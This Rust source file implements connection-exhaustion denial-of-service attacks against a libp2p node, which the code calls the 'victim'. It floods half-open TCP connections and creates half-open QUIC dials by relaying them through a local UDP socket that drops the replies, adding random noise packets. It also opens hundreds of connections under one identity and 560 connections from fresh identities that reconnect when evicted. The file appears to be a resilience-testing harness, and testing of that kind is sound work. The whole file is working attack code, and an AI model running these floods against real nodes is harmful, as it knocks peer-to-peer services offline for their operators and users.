//! Attacks by connections: half-open ones, and more than there are places.

use std::{net::SocketAddr, time::Duration};

use anyhow::{Context as _, Result};
use futures::{StreamExt as _, stream};
use libp2p::{Multiaddr, identity::Keypair, multiaddr::Protocol, swarm::SwarmEvent};
use tokio::net::{TcpStream, UdpSocket};

use crate::{
    Victim, begun,
    stranger::{Stranger, dial, swarm},
};

/// Half-open connections at once.
const HALF_OPEN: usize = 600;
/// Connections of one identity.
const OF_ONE: usize = 400;
/// Identities with a connection each: more than there are places.
const OF_MANY: usize = 560;
const AGAIN: Duration = Duration::from_millis(200);

fn socket_of(address: &Multiaddr) -> Result<SocketAddr> {
    let (mut ip, mut port) = (None, None);
    for part in address.iter() {
        match part {
            Protocol::Ip4(found) => ip = Some(found.into()),
            Protocol::Tcp(found) | Protocol::Udp(found) => port = Some(found),
            _ => {}
        }
    }
    Ok(SocketAddr::new(ip.context("no IPv4 address")?, port.context("no port")?))
}

pub(crate) async fn half_open_tcp(victim: Victim) -> Result<()> {
    let socket = socket_of(&victim.tcp)?;
    let (stands, mut standing) = tokio::sync::mpsc::channel(HALF_OPEN);
    for _ in 0..HALF_OPEN {
        let stands = stands.clone();
        tokio::spawn(async move {
            let mut first = Some(stands);
            loop {
                if let Ok(stream) = TcpStream::connect(socket).await {
                    if let Some(first) = first.take() {
                        let _ = first.send(()).await;
                    }
                    // Ends when the node gives up on it.
                    let _ = stream.readable().await;
                }
                tokio::time::sleep(AGAIN).await;
            }
        });
    }
    for _ in 0..HALF_OPEN {
        standing.recv().await;
    }
    begun(HALF_OPEN);
    std::future::pending().await
}

/// Dials go through a socket that passes on what they send and never what they are answered: each remains half open.
pub(crate) async fn half_open_quic(victim: Victim) -> Result<()> {
    let target = socket_of(&victim.quic)?;
    let hole = UdpSocket::bind("127.0.0.1:0").await?;
    let hole_address = hole.local_addr()?;
    let mut through = Multiaddr::from(hole_address.ip());
    through.push(Protocol::Udp(hole_address.port()));
    through.push(Protocol::QuicV1);
    tokio::spawn(async move {
        let mut packet = vec![0; 64 * 1024];
        let mut sockets = Vec::new();
        // From many ports, as from many strangers.
        while let Ok((len, _)) = hole.recv_from(&mut packet).await {
            if sockets.len() < 256 {
                sockets.extend(UdpSocket::bind("127.0.0.1:0").await);
            }
            if let Some(socket) = sockets.get(rand::random_range(0..sockets.len().max(1))) {
                let _ = socket.send_to(&packet[..len], target).await;
                let noise: [u8; 64] = rand::random();
                let _ = socket.send_to(&noise, target).await;
            }
        }
    });
    let mut swarm = swarm(Keypair::generate_ed25519())?;
    let mut under_way = 0;
    let mut said = false;
    loop {
        while under_way < HALF_OPEN {
            let stranger = Keypair::generate_ed25519().public().to_peer_id();
            swarm.dial(dial(&through, stranger))?;
            under_way += 1;
        }
        if !std::mem::replace(&mut said, true) {
            begun(under_way);
        }
        if let SwarmEvent::OutgoingConnectionError { .. } = swarm.select_next_some().await {
            under_way -= 1;
        }
    }
}

pub(crate) async fn connections_of_one(victim: Victim) -> Result<()> {
    let mut swarm = swarm(Keypair::generate_ed25519())?;
    let (mut under_way, mut made) = (0, 0);
    loop {
        while under_way < 64 {
            let address = if made % 2 == 0 { &victim.quic } else { &victim.tcp };
            swarm.dial(dial(address, victim.peer))?;
            under_way += 1;
        }
        match swarm.select_next_some().await {
            SwarmEvent::ConnectionEstablished { .. } | SwarmEvent::OutgoingConnectionError { .. } => {
                under_way -= 1;
                made += 1;
                if made == OF_ONE {
                    begun(made);
                }
            }
            _ => {}
        }
    }
}

async fn one_of_many(number: usize, victim: &Victim) -> Result<Stranger> {
    let address = if number.is_multiple_of(2) { &victim.quic } else { &victim.tcp };
    Stranger::connect(address, victim.peer).await
}

pub(crate) async fn connections_of_many(victim: Victim) -> Result<()> {
    let making = stream::iter(0..OF_MANY).map(|number| one_of_many(number, &victim));
    let mut strangers: Vec<Stranger> =
        making.buffer_unordered(32).filter_map(|made| async { made.ok() }).collect().await;
    begun(strangers.len());
    // Those that were pushed out come again, as new strangers.
    for number in 0.. {
        if let Ok(stranger) = one_of_many(number, &victim).await {
            let at = number % strangers.len().max(1);
            strangers[at] = stranger;
        }
    }
    Ok(())
}
